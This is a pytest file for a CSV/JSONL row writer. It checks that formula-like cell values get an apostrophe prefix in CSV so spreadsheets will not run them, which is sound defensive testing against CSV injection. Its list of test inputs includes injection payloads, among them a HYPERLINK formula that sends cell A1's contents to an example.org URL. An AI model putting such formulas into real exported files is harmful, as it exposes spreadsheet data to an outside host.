import csv
import io

import pytest

from amana.outside.writers import RowFormat, writer

FORMULAS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", '=HYPERLINK("https://example.org/?"&A1)']
TEXTS = ["", "a=b", " =1", "'=1", "5", "{}", "مرحبا", "１"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_says_in_csv_that_it_is_text(text: str) -> None:
    assert cell("csv", text) == f"'{text}"
    assert writer("jsonl", ["x"]).rows([{"x": text}]).decode().count("'") == 0


@pytest.mark.parametrize("text", TEXTS)
def test_other_texts_are_as_they_are(text: str) -> None:
    assert cell("csv", text) == text


def test_a_number_below_nought_is_a_number() -> None:
    assert cell("csv", -5) == "-5"


def cell(format: RowFormat, value: object) -> str:
    rows = writer(format, ["x"], header=False).rows([{"x": value}]).decode()
    [[found]] = [row or [""] for row in csv.reader(io.StringIO(rows, newline=""))]
    return found
